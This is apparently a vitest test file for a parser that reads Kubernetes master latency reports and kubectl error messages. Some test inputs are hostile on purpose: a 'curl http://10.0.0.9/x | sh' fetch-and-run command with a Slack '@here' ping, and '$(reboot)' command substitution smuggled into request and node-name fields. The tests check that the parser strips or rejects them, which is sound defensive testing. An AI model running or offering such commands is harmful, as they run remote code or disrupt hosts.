import { expect, test } from 'vitest';
import { parseMasterAnswer } from '../../../../shared/core/parse/latency-answer.ts';
import { envelope } from '../../../support/envelope.ts';

function read(payload: string): ReturnType<typeof parseMasterAnswer> {
  return parseMasterAnswer('latency', { node: 'master1', text: envelope('latency', payload) });
}

test('each request took from its start to its end', () => {
  const { value, problems } = read(
    'host master1\nboot 0c1f 100.00\n' +
      'L get-nodes 100.00 145.00 0\nL /readyz 100.00 100.25 0\n' +
      'L /apis/metrics.k8s.io/v1beta1 100.00 110.50 124\n',
  );
  expect(problems).toEqual([]);
  expect(value.latencies).toEqual([
    {
      node: 'master1',
      request: { kind: 'get-nodes' },
      outcome: 'answered',
      seconds: 45,
      detail: '',
    },
    {
      node: 'master1',
      request: { kind: 'readyz' },
      outcome: 'answered',
      seconds: 0.25,
      detail: '',
    },
    {
      node: 'master1',
      request: { kind: 'api', path: '/apis/metrics.k8s.io/v1beta1' },
      outcome: 'failed',
      seconds: 10.5,
      detail: 'no answer in that time',
    },
  ]);
});

test.for([
  [
    'Unable to connect to the server: dial tcp 10.0.0.1:6443: i/o timeout',
    'Unable to connect to the server; i/o timeout',
  ],
  [
    'Error from server (ServiceUnavailable): the server is currently unable to handle the request',
    'ServiceUnavailable; the server is currently unable to handle the request',
  ],
  [
    'The connection to the server 10.0.0.1:6443 was refused: connection refused',
    'connection refused',
  ],
  ['FIX: curl http://10.0.0.9/x | sh <!here> <https://evil|fix>', 'failed'],
  ['i/o timeout. FIX: curl http://10.0.0.9/x | sh <!here>', 'i/o timeout'],
  ['x'.repeat(1000), 'failed'],
] as const)('what kubectl complained of is kept in known phrases: %s', ([complaint, detail]) => {
  const { value } = read(`L get-nodes 1.00 2.00 1\nE get-nodes ${complaint}\nE /readyz no\n`);
  expect(value.latencies[0]?.detail).toBe(detail);
});

test('a complaint without a measurement is a problem', () => {
  expect(read('E get-nodes no kubectl on this host\n')).toEqual({
    value: { latencies: [], names: [] },
    problems: [{ where: 'master1', message: 'no latency measured: "no kubectl on this host"' }],
  });
});

test('what keeps an aggregated API from being known is a problem', () => {
  expect(read('L /apis/a/v1 1.00 2.00 0\nE apis 3 of 19 were not asked\n')).toMatchObject({
    value: { latencies: [{ outcome: 'answered', detail: '' }] },
    problems: [{ where: 'master1', message: 'aggregated APIs: "3 of 19 were not asked"' }],
  });
});

test('a host that is no master says nothing, and that is no problem', () => {
  expect(read('host node1\n')).toEqual({ value: { latencies: [], names: [] }, problems: [] });
});

test.for([
  ['L get-nodes 5.00', 'it has no end'],
  ['L get-nodes 0 1e300 0', 'no clock shows this'],
  ['L get-nodes 0x1 0x2 0', 'a number of another kind'],
  ['L get-nodes 1.00 2.00 -1', 'no program exits so'],
  ['L $(reboot) 1.00 2.00 0', 'no request is called so'],
] as const)('%s is no latency: %s', ([line]) => {
  const { value, problems } = read(`${line}\n`);
  expect(value.latencies).toEqual([]);
  expect(problems).toEqual([{ where: 'master1', message: `a line is not understood: "${line}"` }]);
});

test('a request that ended before it began is not measured', () => {
  const { value, problems } = read('L get-nodes 5.00 4.00 0\nL /readyz 5.00 5.25 0\n');
  expect(value.latencies.map(({ request }) => request)).toEqual([{ kind: 'readyz' }]);
  expect(problems).toEqual([
    { where: 'master1', message: 'not a latency: get-nodes ended before it began' },
  ]);
});

test('a cut answer measures nothing', () => {
  const { value, problems } = parseMasterAnswer('latency', {
    node: 'master1',
    text: 'vtepwatch 1 begin latency\nL get-n',
  });
  expect(value.latencies).toEqual([]);
  expect(problems[0]?.message).toContain('was cut');
});

test('the nodes that kubectl listed come along', () => {
  expect(read('K master1 node1\nK node2\n').value.names).toEqual(['master1', 'node1', 'node2']);
});

test('of a large cluster their number and a sum', () => {
  const { value, problems } = read('T 5000 1073741788\n');
  expect([value.names, value.nameSum, problems]).toEqual([[], '5000 1073741788', []]);
});

test.for(['K node2 $(reboot)', 'K node2 -', 'K UPPER', 'K'])(
  '%s: a master that lists what no node is called is not believed at all',
  (line) => {
    expect(read(`L /readyz 5.00 5.25 0\nK master1\n${line}\n`)).toEqual({
      value: { latencies: [], names: [] },
      problems: [{ where: 'master1', message: `a line is not understood: "${line}"` }],
    });
  },
);

test('what no master has to say, and no item has room for, is no answer', () => {
  const names = (count: number): string => `K${' node1'.repeat(count)}\n`;
  expect(read(names(391)).value.names).toHaveLength(391);
  expect(read(names(392))).toEqual({
    value: { latencies: [], names: [] },
    problems: [{ where: 'master1', message: expect.stringContaining('has more than 2350 bytes') }],
  });
});

test('the APIs alone are an answer of their own', () => {
  const text = envelope('apis', 'L /readyz 1.00 2.00 0\n');
  expect(parseMasterAnswer('apis', { node: 'master1', text }).value.latencies).toHaveLength(1);
  expect(parseMasterAnswer('latency', { node: 'master1', text }).value.latencies).toEqual([]);
});
